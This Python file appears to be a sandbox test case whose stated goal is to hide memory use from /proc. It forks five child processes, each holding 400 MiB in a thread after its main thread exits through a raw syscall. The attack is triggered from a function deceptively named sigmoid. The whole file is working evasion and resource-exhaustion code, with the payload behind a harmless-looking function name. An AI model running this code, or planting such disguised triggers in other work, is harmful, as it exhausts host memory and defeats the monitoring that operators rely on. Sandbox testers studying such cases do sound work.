"""Goal: use memory in a process whose main thread has ended, so that nothing is to be seen in its /proc entry.

Without a sandbox: unsafe
"""

import ctypes
import os
import threading
import time

CHILDREN, MIB = 5, 400
SYS_EXIT = {"x86_64": 60, "aarch64": 93}[os.uname().machine]


def fill():
    # The kernel takes the memory away from the /proc entry of a process as soon as its first thread is gone.
    time.sleep(0.2)
    memory = bytearray(os.urandom(1 << 20)) * MIB
    time.sleep(60)
    return memory


def attack():
    try:
        for _ in range(CHILDREN):
            if os.fork() == 0:
                threading.Thread(target=fill).start()
                ctypes.CDLL(None).syscall(SYS_EXIT, 0)
    except OSError as error:
        raise RuntimeError(f"stopped by: {error!r}")
    time.sleep(2)
    if os.waitpid(-1, os.WNOHANG) == (0, 0):
        raise RuntimeError(f"ATTACK SUCCEEDED: {CHILDREN * MIB} MiB of memory in use")


# Once a worker, so that no more is used than is said.
ONCE = iter([attack])


def sigmoid(x):
    next(ONCE)()
